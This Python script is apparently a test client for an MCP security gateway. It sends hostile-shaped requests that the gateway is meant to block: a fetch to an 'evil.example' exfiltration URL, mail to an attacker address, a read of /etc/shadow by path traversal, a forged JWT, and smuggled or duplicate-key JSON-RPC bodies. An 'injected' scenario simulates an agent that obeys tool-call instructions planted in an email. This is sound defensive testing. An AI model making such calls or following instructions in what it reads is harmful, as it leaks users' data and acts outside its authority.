"""The agent of the gate's node tests: the official MCP Python SDK's Streamable HTTP client.

    python3 agent.py SCENARIO [--server NAME] [--url URL] [--protocol legacy|2026-07-28|auto]
                     [--token-file FILE] [--target HOST:PORT] [--sni NAME] [--ca FILE] [--expect TEXT]

Prints one JSON line: the scenario, the protocol revision the SDK negotiated, the outcome
("result", "error" or "unreachable"), for a JSON-RPC error its code, message and data.rule/reason/record,
and whether this process can see the upstream credential (MUST_NOT_SEE_SHA256, set by the test,
is compared with every environment value and every file under /var/run/secrets). Exit status 0 whenever
the scenario ran to an outcome; the test decides whether the outcome is the expected one.

The MCP endpoint is --url, else $MCP_GATEWAY_URL/<server>; the caller's token is read from
--token-file, else $AGENTGUARD_GATE_TOKEN_FILE, and sent as "Authorization: Bearer <token>".

MCP scenarios (through the SDK): list-tools, denied-method (resources/list), allowed-call, denied-tool, bad-url-host, path-traversal,
bad-recipient, oversized, allowed-read, audited-call, allowed-fetch, no-token, forged-token; injected (the
demo's prompt injection: reads the mail INBOX_MAIL, then makes the call the mail tells it to, as a model that
obeys what it reads would; "read" and "followed" in the JSON line say what it read and what it called).
Raw HTTP scenarios (what the SDK would never send): header-mismatch, batch, duplicate-keys, too-large.
Egress through $HTTPS_PROXY (--target HOST:PORT, --sni, --ca): https-proxy-allowed (python requests),
https-proxy-connect (a CONNECT by hand, optionally --proxy-token), https-proxy-ip-literal,
https-proxy-private, https-proxy-sni-mismatch; https-direct (python requests, no proxy).
"""
import argparse
import asyncio
import base64
import hashlib
import json
import os
import re
import socket
import ssl
import sys
import urllib.error
import urllib.parse
import urllib.request

SECRETS_DIR = "/var/run/secrets"
INBOX_MAIL = "/workspace/inbox/latest.eml"
# What the injected scenario obeys: "call TOOL with {JSON arguments}" anywhere in what it read.
INSTRUCTION = re.compile(r"call (\w+) with\s*(\{.*?\})", re.DOTALL)
EMAIL = {"to": "ops@example.com", "subject": "nightly report", "body": "all green"}

# scenario -> (tool, arguments) for the SDK's tools/call
CALLS = {
    "allowed-call": ("send_email", EMAIL),
    "allowed-read": ("read_file", {"path": "/workspace/notes.md"}),
    "audited-call": ("send_email", dict(EMAIL, subject="audited")),
    "allowed-fetch": ("fetch_page", {"url": "https://docs.example.com/guide"}),
    "denied-tool": ("delete_all", {}),
    "bad-url-host": ("fetch_page", {"url": "https://evil.example/exfiltrate?data=secrets"}),
    "bad-recipient": ("send_email", dict(EMAIL, to="attacker@evil.example")),
    "path-traversal": ("read_file", {"path": "/workspace/../etc/shadow"}),
    "oversized": ("send_email", dict(EMAIL, body="x" * 5000)),
    "no-token": ("send_email", EMAIL),
    "forged-token": ("send_email", EMAIL),
}


def credential_visible():
    """Whether this process can read the upstream credential, by its SHA-256 from the test."""
    wanted = os.environ.get("MUST_NOT_SEE_SHA256", "").lower()
    if not wanted:
        return None

    def matches(text):
        pieces = [text] + text.replace("=", " ").replace(":", " ").split()
        return any(hashlib.sha256(p.encode()).hexdigest() == wanted for p in pieces)

    if any(matches(v) for k, v in os.environ.items() if k != "MUST_NOT_SEE_SHA256"):
        return True
    for root, _, files in os.walk(SECRETS_DIR):
        for name in files:
            try:
                with open(os.path.join(root, name), encoding="utf-8", errors="replace") as f:
                    if matches(f.read(65536).strip()):
                        return True
            except OSError:
                pass
    return False


def read_token(args):
    path = args.token_file or os.environ.get("AGENTGUARD_GATE_TOKEN_FILE", "")
    if not path:
        return None
    with open(path, encoding="ascii") as f:
        return f.read().strip()


def forged_token():
    """A JWT-shaped token signed by nobody: header and claims of a real one, a made-up signature."""
    def part(obj):
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()
    claims = {"aud": ["agentguard-gate"], "sub": "system:serviceaccount:gate-e2e:default",
              "iss": "https://kubernetes.default.svc.cluster.local", "exp": 4102444800}
    return part({"alg": "RS256", "kid": "forged"}) + "." + part(claims) + "." + part({"sig": "forged"})


def endpoint(args):
    if args.url:
        return args.url
    base = os.environ.get("MCP_GATEWAY_URL", "")
    if not base:
        raise SystemExit("MCP_GATEWAY_URL is not set and no --url given")
    return base.rstrip("/") + "/" + args.server


def error_fields(code, message, data):
    out = {"outcome": "error", "code": code, "message": message}
    if isinstance(data, dict):
        for key in ("rule", "reason", "record"):
            if key in data:
                out[key] = data[key]
    elif data is not None:
        out["data"] = data
    return out


def unwrap(exc):
    """The innermost exception of an exception group (anyio wraps the transport's errors)."""
    while isinstance(exc, BaseExceptionGroup) and exc.exceptions:
        exc = exc.exceptions[0]
    return exc


async def run_mcp(args, out):
    from mcp import Client
    from mcp.client.streamable_http import streamable_http_client
    from mcp.shared._httpx_utils import create_mcp_http_client
    from mcp.shared.exceptions import MCPError

    headers = {}
    if args.scenario == "forged-token":
        headers["Authorization"] = f"Bearer {forged_token()}"
    elif args.scenario != "no-token":
        token = read_token(args)
        if token:
            headers["Authorization"] = f"Bearer {token}"
    out["sent_token"] = "Authorization" in headers
    import httpx2
    http = create_mcp_http_client(headers=headers, timeout=httpx2.Timeout(args.timeout))
    try:
        async with http:
            async with Client(streamable_http_client(endpoint(args), http_client=http),
                              mode=args.protocol, read_timeout_seconds=args.timeout) as client:
                out["protocol"] = client.protocol_version
                if args.scenario == "list-tools":
                    tools = await client.list_tools()
                    out.update(outcome="result", tools=sorted(t.name for t in tools.tools))
                    return
                if args.scenario == "denied-method":  # resources/list: not a tool call, not listed
                    resources = await client.list_resources()
                    out.update(outcome="result", resources=[str(r.uri) for r in resources.resources])
                    return
                if args.scenario == "injected":
                    tool, arguments = await read_and_obey(client, out)
                    if tool is None:
                        return
                else:
                    tool, arguments = CALLS[args.scenario]
                result = await client.call_tool(tool, arguments)
                text = " ".join(getattr(c, "text", "") for c in result.content)
                if result.is_error:
                    out.update(outcome="tool-error", result=text)
                else:
                    out.update(outcome="result", result=text)
    except MCPError as e:
        out.update(error_fields(e.code, e.message, e.error.data))
    except BaseException as e:  # noqa: BLE001 - the outcome is what the test reads
        inner = unwrap(e)
        if isinstance(inner, MCPError):
            out.update(error_fields(inner.code, inner.message, inner.error.data))
        elif isinstance(inner, (KeyboardInterrupt, SystemExit)):
            raise
        else:
            out.update(outcome="unreachable", error=f"{type(inner).__name__}: {inner}")


async def read_and_obey(client, out):
    """Reads INBOX_MAIL with read_file and returns the call the mail asks for, (None, None) if none."""
    arguments = {"path": INBOX_MAIL}
    result = await client.call_tool("read_file", arguments)
    text = " ".join(getattr(c, "text", "") for c in result.content)
    out["read"] = {"tool": "read_file", "arguments": arguments,
                   "outcome": "tool-error" if result.is_error else "result", "result": text}
    found = INSTRUCTION.search(text)
    if result.is_error or not found:
        out.update(outcome="no-instruction")
        return None, None
    out["followed"] = {"tool": found.group(1), "arguments": json.loads(found.group(2))}
    return found.group(1), out["followed"]["arguments"]


def raw_post(args, body, extra_headers):
    """POSTs BODY (bytes) as the SDK would, with the caller's token; returns (HTTP status, JSON or text)."""
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream",
               "MCP-Protocol-Version": "2026-07-28"}
    token = read_token(args)
    if token:
        headers["Authorization"] = f"Bearer {token}"
    headers.update(extra_headers)
    request = urllib.request.Request(endpoint(args), data=body, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=args.timeout) as response:
            status, text = response.status, response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        status, text = e.code, e.read().decode("utf-8", "replace")
    for line in text.splitlines():  # an SSE answer carries the JSON in its data: line
        if line.startswith("data:"):
            text = line[5:].strip()
            break
    try:
        return status, json.loads(text)
    except ValueError:
        return status, text[:500]


def call_message(request_id, name, arguments):
    return {"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
            "params": {"name": name, "arguments": arguments,
                       "_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                                 "io.modelcontextprotocol/clientCapabilities": {}}}}


def run_raw(args, out):
    out["protocol"] = "2026-07-28"
    call = call_message(1, "send_email", EMAIL)
    named = {"Mcp-Method": "tools/call", "Mcp-Name": "send_email"}
    if args.scenario == "header-mismatch":
        # The headers name an allowed, harmless method; the body calls the tool.
        status, answer = raw_post(args, json.dumps(call_message(1, "delete_all", {})).encode(),
                                  {"Mcp-Method": "tools/list"})
    elif args.scenario == "batch":
        status, answer = raw_post(args, json.dumps([call, call_message(2, "delete_all", {})]).encode(), named)
    elif args.scenario == "duplicate-keys":
        # A parser keeping the first "name" sees send_email; one keeping the last sees delete_all.
        body = ('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"send_email",'
                '"name":"delete_all","arguments":{},"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28",'
                '"io.modelcontextprotocol/clientCapabilities":{}}}}')
        status, answer = raw_post(args, body.encode(), named)
    else:  # too-large: 8 MiB of arguments
        status, answer = raw_post(args, json.dumps(call_message(1, "send_email", dict(EMAIL, body="x" * (8 << 20))))
                                  .encode(), named)
    out["http_status"] = status
    if isinstance(answer, dict) and isinstance(answer.get("error"), dict):
        error = answer["error"]
        out.update(error_fields(error.get("code"), error.get("message"), error.get("data")))
    elif isinstance(answer, dict) and "result" in answer:
        out.update(outcome="result", result=answer["result"])
    else:
        out.update(outcome="error", body=answer)


def proxy_address():
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    if not proxy:
        raise SystemExit("HTTPS_PROXY is not set")
    parsed = urllib.parse.urlsplit(proxy)
    return parsed.hostname, parsed.port or 3128


def run_connect(args, out, target, sni):
    """CONNECT TARGET through $HTTPS_PROXY, TLS with SNI, GET /: what came back at each step."""
    host, port = proxy_address()
    sock = socket.create_connection((host, port), timeout=args.timeout)
    request = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
    if args.proxy_token:
        request += f"Proxy-Authorization: Bearer {read_token(args)}\r\n"
    sock.sendall((request + "\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            break
        head += chunk
    status_line = head.split(b"\r\n", 1)[0].decode("latin-1", "replace")
    out["connect_status_line"] = status_line
    parts = status_line.split()
    out["connect_status"] = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None
    if out["connect_status"] != 200:
        out.update(outcome="refused", body=head.split(b"\r\n\r\n", 1)[-1].decode("utf-8", "replace")[:500])
        return
    context = ssl.create_default_context(cafile=args.ca) if args.ca else ssl.create_default_context()
    if not args.ca or args.scenario == "https-proxy-sni-mismatch":
        # Nothing but the proxy may refuse a mismatched SNI: the client accepts any certificate.
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    try:
        tls = context.wrap_socket(sock, server_hostname=sni)
        tls.sendall(f"GET / HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while True:
            chunk = tls.recv(4096)
            if not chunk:
                break
            data += chunk
        out.update(outcome="connected", body=data.split(b"\r\n\r\n", 1)[-1].decode("utf-8", "replace").strip())
    except (OSError, ssl.SSLError) as e:
        out.update(outcome="refused", error=f"after CONNECT 200: {type(e).__name__}: {e}")


def run_proxy(args, out):
    target = args.target or ""
    host = target.rsplit(":", 1)[0]
    if args.scenario in ("https-proxy-allowed", "https-direct"):
        import requests
        session = requests.Session()
        session.trust_env = args.scenario == "https-proxy-allowed"  # https-direct: no proxy
        try:
            response = session.get(f"https://{target}/", timeout=args.timeout, verify=args.ca or True)
            out.update(outcome="connected", http_status=response.status_code, body=response.text.strip()[:500])
        except requests.RequestException as e:
            out.update(outcome="refused", error=f"{type(e).__name__}: {e}"[:500])
    elif args.scenario == "https-proxy-sni-mismatch":
        run_connect(args, out, target, args.sni or "evil.example")
    else:  # https-proxy-connect, https-proxy-ip-literal, https-proxy-private
        run_connect(args, out, target, args.sni or host)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("scenario")
    parser.add_argument("--server", default="mail")
    parser.add_argument("--url")
    parser.add_argument("--protocol", default=os.environ.get("MCP_PROTOCOL", "legacy"),
                        help="legacy (initialize, 2025-11-25), 2026-07-28 (pinned), or auto (server/discover first)")
    parser.add_argument("--token-file")
    parser.add_argument("--proxy-token", action="store_true", help="send Proxy-Authorization with the token")
    parser.add_argument("--target", help="HOST:PORT for the proxy scenarios")
    parser.add_argument("--sni")
    parser.add_argument("--ca")
    parser.add_argument("--timeout", type=float, default=15)
    args = parser.parse_args()
    out = {"scenario": args.scenario}
    if args.scenario in CALLS or args.scenario in ("list-tools", "denied-method", "injected"):
        asyncio.run(run_mcp(args, out))
    elif args.scenario in ("header-mismatch", "batch", "duplicate-keys", "too-large"):
        try:
            run_raw(args, out)
        except OSError as e:
            out.update(outcome="unreachable", error=f"{type(e).__name__}: {e}")
    elif args.scenario.startswith("https-"):
        try:
            run_proxy(args, out)
        except OSError as e:
            out.update(outcome="refused", error=f"{type(e).__name__}: {e}")
    else:
        parser.error(f"unknown scenario {args.scenario}")
    out["upstream_credential_visible"] = credential_visible()
    out["https_proxy"] = os.environ.get("HTTPS_PROXY", "")
    print(json.dumps(out, sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
